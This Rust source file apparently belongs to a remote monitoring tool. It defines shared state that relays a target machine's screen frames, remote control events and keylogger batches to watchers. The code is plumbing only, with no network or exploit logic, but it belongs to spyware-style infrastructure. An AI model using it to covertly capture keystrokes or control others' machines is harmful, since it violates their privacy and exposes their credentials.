//! Per-component state shared between a target component and the watcher
//! relays reading from it.

use std::sync::atomic::{AtomicU64, Ordering};

use bytes::Bytes;
use parking_lot::{Mutex, RwLock};
use spyglass_core::{Component, ControlEvent};
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

/// A bound target component as seen by watchers.
#[derive(Debug)]
pub struct ComponentFeed {
    component: Component,
    /// Cancelled when the component is marked for stop or its primary goes.
    stop: CancellationToken,
    state: FeedState,
}

#[derive(Debug)]
pub enum FeedState {
    Screen(ScreenFeed),
    Controller(ControlQueue),
    Keylogger(KeyFeed),
}

impl ComponentFeed {
    /// Builds the feed for `component`. Controllers also hand back the
    /// receiving end of their event queue.
    pub fn new(
        component: Component,
        stop: CancellationToken,
    ) -> (Self, Option<mpsc::UnboundedReceiver<ControlEvent>>) {
        let (state, inbox) = match component {
            Component::ScreenReader => (FeedState::Screen(ScreenFeed::default()), None),
            Component::Controller => {
                let (queue, inbox) = ControlQueue::new();
                (FeedState::Controller(queue), Some(inbox))
            }
            Component::Keylogger => (FeedState::Keylogger(KeyFeed::default()), None),
        };
        (
            Self {
                component,
                stop,
                state,
            },
            inbox,
        )
    }

    pub fn component(&self) -> Component {
        self.component
    }

    pub fn stop_token(&self) -> &CancellationToken {
        &self.stop
    }

    pub fn is_stopping(&self) -> bool {
        self.stop.is_cancelled()
    }

    pub fn state(&self) -> &FeedState {
        &self.state
    }
}

#[derive(Debug, Default)]
struct ScreenFrame {
    freshness: u64,
    data: Bytes,
}

/// Latest screen frame plus a freshness token that changes on every publish.
///
/// The token is mirrored into an atomic so pollers can check for news
/// without touching the lock; frame and token are always read together.
#[derive(Debug, Default)]
pub struct ScreenFeed {
    latest: RwLock<ScreenFrame>,
    freshness: AtomicU64,
}

impl ScreenFeed {
    pub fn publish(&self, data: Bytes) -> u64 {
        let mut latest = self.latest.write();
        latest.freshness += 1;
        latest.data = data;
        self.freshness.store(latest.freshness, Ordering::Release);
        latest.freshness
    }

    /// Zero until the first frame arrives.
    pub fn freshness(&self) -> u64 {
        self.freshness.load(Ordering::Acquire)
    }

    pub fn snapshot(&self) -> (u64, Bytes) {
        let latest = self.latest.read();
        (latest.freshness, latest.data.clone())
    }
}

#[derive(Debug)]
pub struct ControlQueue {
    tx: mpsc::UnboundedSender<ControlEvent>,
}

impl ControlQueue {
    fn new() -> (Self, mpsc::UnboundedReceiver<ControlEvent>) {
        let (tx, rx) = mpsc::unbounded_channel();
        (Self { tx }, rx)
    }

    /// False once the target controller has gone away.
    pub fn push(&self, event: ControlEvent) -> bool {
        self.tx.send(event).is_ok()
    }
}

/// Latest key batch from the target; `Some` doubles as the ready flag.
#[derive(Debug, Default)]
pub struct KeyFeed {
    latest: Mutex<Option<Bytes>>,
}

impl KeyFeed {
    pub fn store(&self, batch: Bytes) {
        *self.latest.lock() = Some(batch);
    }

    pub fn take(&self) -> Option<Bytes> {
        self.latest.lock().take()
    }

    pub fn is_ready(&self) -> bool {
        self.latest.lock().is_some()
    }
}
